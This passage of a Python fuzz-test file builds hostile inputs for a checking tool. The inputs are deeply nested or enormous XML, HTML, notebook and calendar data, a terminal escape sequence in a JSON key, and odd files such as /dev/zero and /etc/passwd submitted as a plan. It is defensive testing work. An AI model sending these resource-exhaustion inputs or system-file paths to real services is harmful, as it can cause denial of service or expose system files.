            "<a>" * DEEP + "</a>" * DEEP,
            "<a " + "".join(f"b{n}='x' " for n in range(MANY)) + "/>",
            "<a>" + "<b/>" * 1_000_000 + "</a>",
            "<a " * 30_000,
            "<" * 1_000_000,
            "<!--" * 100_000,
            outer % ("x" * LARGE),
            "<SkillsPassport xmlns='" + "x" * 1_000_000 + "'/>",
        ]
    )


# pages, notebooks and calendars, as `careerkit check` is asked to look at


@_kind
def notebook_hostile(chance: random.Random) -> tuple[str, str]:
    """A notebook with harm in its outputs, widgets and metadata, of wrong kinds, or enormous."""
    odd = [*PAYLOADS, 7, None, [], {"a": {"b": []}}]
    output = lambda: {  # noqa: E731
        "output_type": chance.choice(["display_data", "stream", "error", 7]),
        "data": {kind: chance.choice(odd) for kind in ("text/html", "text/plain", "image/png")},
        "metadata": chance.choice([{}, [], 7]),
        "text": chance.choice(odd),
    }
    cell = lambda: {  # noqa: E731
        "cell_type": chance.choice(["code", "markdown", 7]),
        "source": chance.choice([*odd, ["x", 7]]),
        "outputs": chance.choice([[output()], {}, None]),
        "metadata": chance.choice([{"tags": chance.choice(odd)}, [], {}]),
    }
    book = {
        "nbformat": chance.choice([4, 3, "4", 99]),
        "nbformat_minor": 5,
        "metadata": {key: chance.choice(odd) for key in ("papermill", "widgets", "authors", "kernelspec")},
        "cells": chance.choice([[cell() for _ in range(20)], [cell()] * 20_000, {}, 7]),
    }
    return "page.ipynb", json.dumps(book) if chance.random() < 0.9 else "[" * DEEP


@_kind
def page_hostile(chance: random.Random) -> tuple[str, str]:
    """A page of markup that never ends, or that is all addresses."""
    text = chance.choice(
        [
            "<a ",
            "<div>",
            "&amp",
            "<a href='",
            "a@",
            "a@b.",
            "0049 ",
            "+1 ",
            "1-",
            "<!--",
            "/home/",
            "C:\\Users\\",
        ]
    )
    return "page.html", f"<html>{text * (LARGE // len(text) // chance.choice([4, 20, 100]))}"


@_kind
def calendar_hostile(chance: random.Random) -> tuple[str, str]:
    """A calendar of lines without an end, or with thousands of entries and harm in them."""
    event = (
        f"BEGIN:VEVENT\r\nSUMMARY:{chance.choice(PAYLOADS)}\r\nATTENDEE:mailto:a@b.example\r\nEND:VEVENT\r\n"
    )
    return "steps.ics", "BEGIN:VCALENDAR\r\n" + chance.choice(
        [event * 20_000, "BEGIN:X\r\n" * MANY, " x" * 1_000_000]
    )


# odd files


def _odd(made: str) -> Make:
    return lambda chance: HandIn(f"file_{made.strip('/').replace('/', '_')}", "plan.json", made=made)


for _made in ("fifo", "folder", "loop", "dangling", "/dev/zero", "/etc/passwd"):
    KINDS[f"file_{_made.strip('/').replace('/', '_')}"] = _odd(_made)
KINDS["file_of_odd_name"] = lambda chance: HandIn(
    "file_of_odd_name",
    chance.choice(ODD_NAMES),
    chance.choice([chance.choice(_PEOPLE).read_bytes(), b"{", b'{"schema_version": 3, "\x1b[31m": 1}']),
)
KINDS["file_empty"] = lambda chance: HandIn(
    "file_empty",
    chance.choice(["plan.json", "x.docx", "x.xlsx", "x.zip", "x.ipynb"]),
    b" " * chance.choice([0, 9]),
)
